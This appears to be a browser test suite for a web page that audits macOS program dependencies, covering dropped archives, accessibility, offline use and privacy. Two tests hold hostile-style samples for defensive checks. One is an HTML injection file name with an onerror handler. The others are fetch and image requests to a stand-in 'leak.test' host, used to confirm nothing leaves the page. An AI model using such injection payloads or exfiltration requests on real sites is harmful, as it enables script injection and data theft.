"""The page in a real browser: dropped, pasted, chosen, narrow, dark, by keys, offline, below a path; nothing leaves."""

from __future__ import annotations

import gzip
import itertools
import json
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from contextlib import chdir
from pathlib import Path
from typing import Any

import pytest

from docs.page.build import HERE, BuildError, build, default_cache, fetch
from machochain.world.archives.opening import is_artifact
from tests.cli.running import run
from tests.factory import dylib, executable
from tests.page.chromium import BROWSER, Chromium, Server, Tab, proxy, serving
from tests.world.archives.packages import component, xar
from tests.world.archives.packing import Content, conda, tar, wheel, zipped

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("page")]
HELLO = Path(__file__).parents[2] / "testdata" / "hello"
BROKEN = HELLO / "bin" / "greeter-broken"
EVIL = "<img src='http:" + "&#47;&#47;leak.test&#47;x' onerror='document.title=1'>"
THEIRS = re.compile(r"(google|googleapis|gstatic)\.com[:/]")
"""What the browser itself asks its maker."""
MESSAGE = """dyld[514]: Library not loaded: @rpath/libx.dylib
  Referenced from: /opt/tool
  Reason: tried: '/x' (no such file)
"""
PLIST = b"""<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict><key>CFBundleExecutable</key><string>My</string></dict></plist>
"""
READY = "/^Ready/.test(document.getElementById('status').textContent)"
ANSWERED = "!document.getElementById('answer').hidden && document.getElementById('cancel').hidden"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    if not BROWSER:
        pytest.skip("no Chromium here")
    out = tmp_path_factory.mktemp("page") / "site"
    try:
        build(out)
    except BuildError as error:
        pytest.skip(f"the page cannot be built here: {error}")
    return out


def test_the_scripts_keep_to_their_types(tmp_path: Path) -> None:
    try:
        pyodide, _ = fetch(default_cache())
    except BuildError as error:
        pytest.skip(f"nothing to check with here: {error}")
    shutil.copytree(HERE / "static", tmp_path / "static")
    (tmp_path / "node_modules").symlink_to(pyodide.parent)
    for project in ("tsconfig.json", "tsconfig.worker.json"):
        shutil.copy(HERE / project, tmp_path)
    node = shutil.which("node")
    assert node is not None
    compiler = pyodide.parent / "typescript" / "bin" / "tsc"
    for project in ("tsconfig.json", "tsconfig.worker.json"):
        done = subprocess.run([node, compiler, "-p", tmp_path / project], capture_output=True, text=True, check=False)
        assert done.stdout == ""
        assert done.returncode == 0


def test_what_a_first_visit_waits_for_stays_small(site: Path) -> None:
    """In bytes sent, scripts compressed as hosts do; docs/try.md has the figures."""
    sizes = {file.name: file.stat().st_size for file in site.glob("engine-*/*")}
    late = sizes.pop("facts.bin")
    sizes["pyodide.asm.mjs"] = len(gzip.compress(next(site.glob("engine-*/pyodide.asm.mjs")).read_bytes(), 6))
    assert sum(sizes.values()) < 7_500_000
    assert late < 3_000_000
    assert sum(len(gzip.compress(f.read_bytes())) for f in site.glob("page-*/*.*") if f.name != "notices.txt") < 50_000


class Visit:
    """A browser that has opened the page, the server it came from, and what left this machine."""

    def __init__(self, tab: Tab, server: Server, left: list[str]) -> None:
        self.tab = tab
        self.server = server
        self._left = left

    @property
    def left(self) -> list[str]:
        return [line for line in self._left if not THEIRS.search(line)]

    def text(self, selector: str) -> str:
        return str(self.tab.run(f"document.querySelector({json.dumps(selector)})?.innerText ?? ''"))

    def answer(self) -> str:
        self.tab.until(ANSWERED)
        return self.text("#card")

    def copied(self, form: str) -> str:
        """What a button copies, taken from where the clipboard would get it."""
        script = """new Promise((resolve) => {
            navigator.clipboard.write = async ([item]) => resolve(await (await item.getType("text/plain")).text());
            document.querySelector(`[data-form="%s"]`).click();
        })"""
        return str(self.tab.run(script % form))


@pytest.fixture(scope="module")
def visit(site: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Visit]:
    left: list[str] = []
    server = Server(site, "/project/try")
    with serving(server), proxy(left) as port:
        chromium = Chromium(tmp_path_factory.mktemp("profile"), port)
        try:
            tab = chromium.tab()
            tab.size(1280, 900)
            tab.open(server.address)
            tab.until(READY)
            yield Visit(tab, server, left)
        finally:
            chromium.close()


@pytest.fixture(autouse=True)
def fresh(request: pytest.FixtureRequest) -> None:
    """Each test begins with the page as it is when it is opened."""
    if "visit" in request.fixturenames:
        visit: Visit = request.getfixturevalue("visit")
        visit.tab.size(1280, 900)
        visit.tab.open(visit.server.address)
        visit.tab.until(READY)


def audited(name: str, at: str, empty: Path, folder: Path) -> Any:
    with chdir(folder):
        done = run("audit", "--no-config", name, "--at", at, "--root", str(empty), "--json")
    return json.loads(done.stdout)


def test_a_dropped_program_is_answered_as_the_command_line_does(visit: Visit, tmp_path: Path) -> None:
    visit.tab.drop(BROKEN)
    answer = visit.answer()
    assert "greeter-broken does not launch" in answer
    assert "Reason: no LC_RPATH's found" in answer
    assert "install_name_tool -add_rpath @loader_path/../lib greeter-broken" in answer
    assert "MISSING" in visit.text("#tree-text")
    assert visit.tab.run("document.querySelectorAll('#report svg .node').length") == 3
    expected = audited("greeter-broken", "/Users/user/Downloads/greeter-broken", tmp_path, BROKEN.parent)
    assert json.loads(visit.copied("json")) == expected
    assert "with-script" in visit.tab.run("document.body.className"), "the report's own script has run"


def kinds(folder: Path) -> Iterator[Path]:
    """One of each kind of file that people have, a program and its library in it."""
    program = executable("@loader_path/../lib/libx.dylib", "@rpath/libabsent.dylib", rpaths=["@loader_path"])
    tree: list[tuple[str, Content]] = [("x/bin/tool", program), ("x/lib/libx.dylib", dylib("@rpath/libx.dylib"))]
    yield zipped(folder / "x.zip", tree)
    yield tar(folder / "x.tar", tree)
    yield tar(folder / "x.tar.gz", tree, "w:gz")
    yield tar(folder / "x.tar.bz2", tree, "w:bz2")
    yield tar(folder / "x.tar.xz", tree, "w:xz")
    yield zipped(folder / "grüße.zip", [("Grüße/bin/tool", program), ("Grüße/é", b"text")])
    yield zipped(folder / "App.zip", [("My.app/Contents/MacOS/My", program), ("My.app/Contents/Info.plist", PLIST)])
    yield wheel(folder / "x-1.0-py3-none-macosx_11_0_arm64.whl", {"x/libx.dylib": dylib("@rpath/libx.dylib")})
    yield conda(folder / "x-1.0-0.conda", tree)
    package = folder / "x.pkg"
    package.write_bytes(xar(component([("./usr/local/bin/tool", program)])))
    yield package
    yield HELLO / "bin" / "greeter-universal"
    yield HELLO / "lib" / "libgreet.1.dylib"
    yield HELLO.parent / "go" / "greet.a"


def test_every_kind_of_file_is_answered_as_the_command_line_does(visit: Visit, tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    for file in kinds(tmp_path):
        visit.tab.run("document.getElementById('card').textContent = ''")
        visit.tab.drop(file)
        visit.tab.until(f"{ANSWERED} && document.getElementById('card').textContent")
        ours = json.loads(visit.copied("json"))
        at = () if is_artifact(file) else ("--at", f"/Users/user/Downloads/{file.name}")
        with chdir(file.parent):
            done = run("audit", "--no-config", file.name, *at, "--root", str(empty), "--json")
        assert ours == json.loads(done.stdout), file.name
        assert ours["processes"], file.name


def test_a_message_is_explained_when_it_is_pasted_anywhere(visit: Visit) -> None:
    visit.tab.run(f"""(() => {{
        const clipboardData = new DataTransfer();
        clipboardData.setData("text/plain", {json.dumps(MESSAGE)});
        const event = new ClipboardEvent("paste", {{ clipboardData, bubbles: true, cancelable: true }});
        document.body.dispatchEvent(event);
    }})()""")
    assert "@rpath/libx.dylib" in visit.answer()
    assert "What helps" in visit.text("#card")
    assert json.loads(visit.copied("json"))["schema"] == "machochain.diagnose/1"


def test_several_chosen_files_lie_in_one_folder(visit: Visit, tmp_path: Path) -> None:
    shutil.copy(HELLO / "lib" / "libgreet.1.dylib", tmp_path / "libgreet.1.dylib")
    (tmp_path / "tool").write_bytes(executable("@loader_path/libgreet.1.dylib"))
    visit.tab.choose("#files", tmp_path / "tool", tmp_path / "libgreet.1.dylib")
    assert "launches on all of the releases" in visit.answer() or "All " in visit.text("#card")
    assert visit.tab.run("document.querySelector('#card .card').className") == "card yes"


def test_a_dropped_folder_is_looked_through_with_its_paths(visit: Visit) -> None:
    visit.tab.drop(HELLO)
    assert "2 of 4 programs and libraries do not load everywhere" in visit.answer()
    assert "hello/bin/greeter-broken" in visit.text("#tree-text")


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("server", b"\x7fELF\x02\x01\x01" + bytes(500), "an ELF file (Linux, BSD)"),
        ("picture.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "not a Mach-O file"),
        ("broken.zip", b"PK\x03\x04" + bytes(100), "broken.zip"),
    ],
)
def test_a_wrong_file_is_named_for_what_it_is(visit: Visit, tmp_path: Path, name: str, data: bytes, words: str) -> None:
    (tmp_path / name).write_bytes(data)
    visit.tab.drop(tmp_path / name)
    assert words in visit.answer()
    assert visit.tab.run("document.querySelector('#card .card').className") == "card none"
    assert visit.text("#report") == ""


def test_a_wheel_of_a_hundred_megabytes_is_read_by_slices(visit: Visit, tmp_path: Path) -> None:
    wheel = tmp_path / "big-1.0-py3-none-macosx_11_0_arm64.whl"
    tag = "Wheel-Version: 1.0\nRoot-Is-Purelib: false\nTag: py3-none-macosx_11_0_arm64\n"
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("big/libbig.dylib", (HELLO / "lib" / "libgreet.1.dylib").read_bytes())
        archive.writestr("big/model.bin", bytes(100 << 20))
        archive.writestr("big-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: big\nVersion: 1.0\n")
        archive.writestr("big-1.0.dist-info/WHEEL", tag)
    visit.tab.drop(wheel)
    assert "libbig.dylib loads on all of the releases" in visit.answer()
    heap = visit.tab.run("performance.memory?.usedJSHeapSize ?? 0")
    assert heap < 60 << 20, "the page itself does not hold the file"


def test_the_choices_change_the_answer_at_once(visit: Visit, tmp_path: Path) -> None:
    (tmp_path / "tool").write_bytes(executable("/opt/homebrew/lib/libx.dylib"))
    visit.tab.drop(tmp_path / "tool")
    assert "launches on none" in visit.answer()
    visit.tab.run("others.value = 'unknown', others.dispatchEvent(new Event('change'))")
    visit.tab.until("document.querySelector('#card .card').className == 'card unknown'")
    visit.tab.run("macos.value = '15..15', macos.dispatchEvent(new Event('change'))")
    visit.tab.until("/macOS 15/.test(document.querySelector('#card h2').innerText)")
    visit.tab.run("at.value = 'bin/tool', at.dispatchEvent(new Event('change'))")
    visit.tab.until("/begins with/.test(document.getElementById('at-error').innerText)")
    visit.tab.run("at.value = '/usr/local/bin/tool', at.dispatchEvent(new Event('change'))")
    visit.tab.until("/Put at .usr.local.bin.tool/.test(document.getElementById('card').innerText)")


def test_names_that_mean_harm_stay_text(visit: Visit, tmp_path: Path) -> None:
    (tmp_path / EVIL).write_bytes(executable(f"@rpath/{EVIL}"))
    visit.tab.drop(tmp_path / EVIL)
    assert EVIL in visit.answer()
    visit.tab.run(
        f"text.value = {json.dumps('dyld[1]: Library not loaded: /' + EVIL)}; document.getElementById('read').click()"
    )
    visit.tab.until("/Library not loaded|cannot|could not/.test(document.querySelector('#card').innerText)")
    assert visit.tab.run("document.querySelectorAll('#answer img').length") == 0
    assert visit.tab.run("document.title").startswith("machochain")
    assert visit.left == []


def test_nothing_leaves_even_from_what_reads_the_files(visit: Visit) -> None:
    """Where a script of another kind got in: neither the page nor the worker may reach another site."""
    visit.tab.run("fetch('http://leak.test/page').catch(() => 0)")
    script = "fetch('http://leak.test/worker').then(() => 'sent', () => 'refused').then((x) => postMessage(x))"
    made = f"""new Promise((resolve) => {{
        const worker = new Worker(URL.createObjectURL(new Blob([{json.dumps(script)}])));
        worker.onmessage = (event) => resolve(event.data);
    }})"""
    assert visit.tab.run(made) == "refused"
    assert visit.left == []
    # The proxy would have seen it: a page without a policy asks.
    visit.tab.send("Page.navigate", url="data:text/html,<img src=http://leak.test/control>")
    visit.tab.until("location.protocol == 'data:' && document.readyState == 'complete'")
    assert any("leak.test/control" in line for line in visit.left)
    visit._left.clear()


def test_an_answer_takes_no_request_but_the_reports_own_script(visit: Visit) -> None:
    before = len(visit.server.asked)
    visit.tab.drop(BROKEN)
    visit.answer()
    visit.tab.until("document.body.classList.contains('with-script')")
    assert all("report.js" in path for path in visit.server.asked[before:])


def test_after_the_first_visit_it_works_without_a_connection(site: Path, tmp_path: Path) -> None:
    left: list[str] = []
    server = Server(site, "/sub")
    with proxy(left) as port:
        chromium = Chromium(tmp_path / "profile", port)
        try:
            with serving(server):
                tab = chromium.tab()
                tab.open(server.address)
                tab.until(READY)
                tab.until("navigator.serviceWorker.ready.then(() => navigator.serviceWorker.controller != null)")
                fetched = [path for path in server.asked if "engine-" in path]
                assert len(fetched) == len(set(fetched)), "each part of the engine is transferred once"
            tab.open(server.address)  # the server is gone
            tab.until(READY)
            tab.drop(BROKEN)
            tab.until(ANSWERED)
            assert "does not launch" in tab.run("document.getElementById('card').innerText")
            tab.run("document.querySelector('#examples button').click()")
            tab.until("/launches on all/.test(document.getElementById('card').innerText)")
        finally:
            chromium.close()


def test_it_can_be_used_by_keys_alone(visit: Visit) -> None:
    tab = visit.tab
    passed: list[str] = []
    for _ in range(12):
        tab.key("Tab", code=9)
        passed.append(tab.run("document.activeElement.id || document.activeElement.innerText || ''"))
        if passed[-1] == "a program that cannot find its library":
            break
    wanted = ["choose", "choose-folder", "text", "read", "macos", "arch", "others", "profile", "at"]
    assert [name for name in passed if name in wanted] == wanted
    tab.key("Enter", code=13, text="\r")
    visit.answer()
    assert tab.run("document.activeElement.id") == "answer-title"
    tab.key("Tab", code=9)
    assert tab.run("document.activeElement.innerText") == "Copy"


def test_everything_that_can_be_used_has_a_name_and_answers_are_announced(visit: Visit) -> None:
    visit.tab.drop(BROKEN)
    visit.answer()
    nodes = visit.tab.accessible()
    names = {(node["role"]["value"], node.get("name", {}).get("value", "")) for node in nodes if "role" in node}
    controls = {"button", "textbox", "combobox", "searchbox", "checkbox", "link", "progressbar", "region"}
    assert not [pair for pair in names if pair[0] in controls and not pair[1]]
    assert ("textbox", "Message, crash report or log") in names
    assert ("combobox", "macOS") in names
    assert any(role == "heading" and name.startswith("No: greeter-broken does not launch") for role, name in names)
    assert any(role == "status" for role, _ in names)
    levels = visit.tab.run(
        "[...document.querySelectorAll('h1,h2,h3')].filter(h => h.offsetParent).map(h => +h.tagName[1])"
    )
    assert levels[0] == 1
    assert all(after - before <= 1 for before, after in itertools.pairwise(levels))


@pytest.mark.parametrize(("width", "dark"), [(360, False), (360, True), (800, True), (1600, False)])
def test_nothing_is_cut_off_at_any_width_and_every_text_can_be_read(visit: Visit, width: int, dark: bool) -> None:
    visit.tab.size(width, 800, dark=dark)
    assert visit.tab.run("document.documentElement.scrollWidth") <= width
    visit.tab.drop(BROKEN)
    visit.answer()
    assert visit.tab.run("document.documentElement.scrollWidth") <= width
    poor = visit.tab.run(CONTRAST)
    assert poor == []
    small = visit.tab.run(
        "[...document.querySelectorAll('main button, main select, main input, main summary')]"
        ".filter((e) => e.offsetParent && e.getBoundingClientRect().height < 24).map((e) => e.outerHTML)"
    )
    assert small == []


CONTRAST = """(() => {
  const parse = (text) => (text.match(/[\\d.]+/g) || []).map(Number);
  const light = ([r, g, b]) => {
    const f = (v) => (v /= 255) <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4;
    return 0.2126 * f(r) + 0.7152 * f(g) + 0.0722 * f(b);
  };
  const behind = (element) => {
    for (let e = element; e; e = e.parentElement) {
      const colour = parse(getComputedStyle(e).backgroundColor);
      if (colour.length && (colour[3] ?? 1) > 0) return colour;
    }
    return [255, 255, 255];
  };
  const poor = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const element = walker.currentNode.parentElement;
    if (!walker.currentNode.nodeValue.trim() || !element.offsetParent) continue;
    if (element.closest(".spoken, script, noscript, svg")) continue;
    const [one, two] = [parse(getComputedStyle(element).color), behind(element)].map(light).sort((a, b) => b - a);
    if ((one + 0.05) / (two + 0.05) < 4.5) poor.push(walker.currentNode.nodeValue.trim().slice(0, 60));
  }
  return poor;
})()"""


def test_a_long_wait_can_be_cancelled_and_the_next_question_is_answered(visit: Visit) -> None:
    visit.tab.run("window.slow = 1")
    visit.tab.drop(BROKEN)
    visit.tab.run("document.getElementById('cancel').click()")
    visit.tab.until("/Cancelled|Ready|Answered/.test(document.getElementById('status').textContent)")
    visit.tab.drop(HELLO / "bin" / "greeter")
    visit.tab.until("/greeter launches on none/.test(document.getElementById('card').innerText)")


def test_what_is_too_big_for_a_browser_says_so(visit: Visit) -> None:
    visit.tab.run("""(() => {
        const file = new File(["x"], "huge.dmg");
        Object.defineProperty(file, "size", { value: 9e9 });
        const data = new DataTransfer();
        const event = new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true });
        Object.defineProperty(event, "clipboardData", { value: { files: [file], getData: () => "" } });
        document.body.dispatchEvent(event);
    })()""")
    assert "9.0 GB is more than a browser can look through" in visit.answer()
